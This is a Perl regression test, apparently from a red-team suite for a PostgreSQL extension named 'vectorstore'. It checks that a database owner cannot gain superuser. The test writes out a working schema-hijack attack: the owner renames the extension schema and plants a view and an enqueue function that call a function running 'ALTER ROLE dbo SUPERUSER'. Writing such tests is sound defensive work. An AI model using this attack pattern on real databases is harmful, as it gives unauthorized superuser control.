# Red team (rt1): a database owner who is not superuser creates schema
# "vectorstore" before a superuser runs CREATE EXTENSION vectorstore VERSION
# '0.1.0' (0.1.0's control file names the schema; PostgreSQL installs into
# the existing schema, owned by the database owner). ALTER EXTENSION UPDATE
# to 0.2.0 keeps that schema as it is. As its owner, dbo renames it and
# creates a schema "vectorstore" of his own: the library resolves every name
# by "vectorstore.", and runs its queue functions and credential lookups as
# the extension's owner, so dbo's objects run as superuser.
# What should happen: the update (or the library) refuses a schema
# "vectorstore" that is not the extension's and owned by its owner, and
# nothing the library runs as the owner resolves through another schema.
use strict;
use warnings;
use PostgreSQL::Test::Cluster;
use PostgreSQL::Test::Utils;
use Test::More;
use VsTest;

my $emu = VsTest::Emulator->start();
my $node = VsTest::new_node('rt_schema', $emu);
$node->start;

$node->safe_psql('postgres', 'CREATE ROLE dbo LOGIN; CREATE DATABASE owned OWNER dbo');
$node->safe_psql('owned', 'CREATE SCHEMA vectorstore', extra_params => [ '-U', 'dbo' ]);
$node->safe_psql('owned', "CREATE EXTENSION vectorstore VERSION '0.1.0'");
my ($ret, $out, $err) = $node->psql('owned', 'ALTER EXTENSION vectorstore UPDATE');
note("update: ret $ret $err");

($ret, $out, $err) = $node->psql('owned', q{
	ALTER SCHEMA vectorstore RENAME TO vs_real;
	CREATE SCHEMA vectorstore;
	CREATE FUNCTION public.evil() RETURNS text LANGUAGE plpgsql AS $$
	BEGIN EXECUTE 'ALTER ROLE dbo SUPERUSER'; RETURN NULL; END $$;
	CREATE VIEW vectorstore.credential AS
	    SELECT NULL::text AS name, NULL::text AS base_url, NULL::text AS organization,
	           NULL::text AS project, NULL::text AS auth, NULL::jsonb AS query,
	           NULL::text[] AS header_names, NULL::text AS key_file
	    WHERE public.evil() IS NOT NULL;
	CREATE TABLE vectorstore.credential_grant (credential text, grantee oid);
	CREATE FUNCTION vectorstore._job_enqueue(name, text, text, text, bytea, jsonb, jsonb, jsonb)
	RETURNS bigint LANGUAGE plpgsql AS $$ BEGIN PERFORM public.evil(); RETURN 1; END $$;
	SELECT vs_real.vs_enqueue_upload('vs_x', 'a.txt', 'x');
}, extra_params => [ '-U', 'dbo' ]);
note("attack: ret $ret $err");

is($node->safe_psql('postgres', "SELECT rolsuper FROM pg_roles WHERE rolname = 'dbo'"), 'f',
	'a database owner who made schema vectorstore before a 0.1.0 install does not become superuser');

$node->stop('immediate');
$emu->stop;
done_testing();
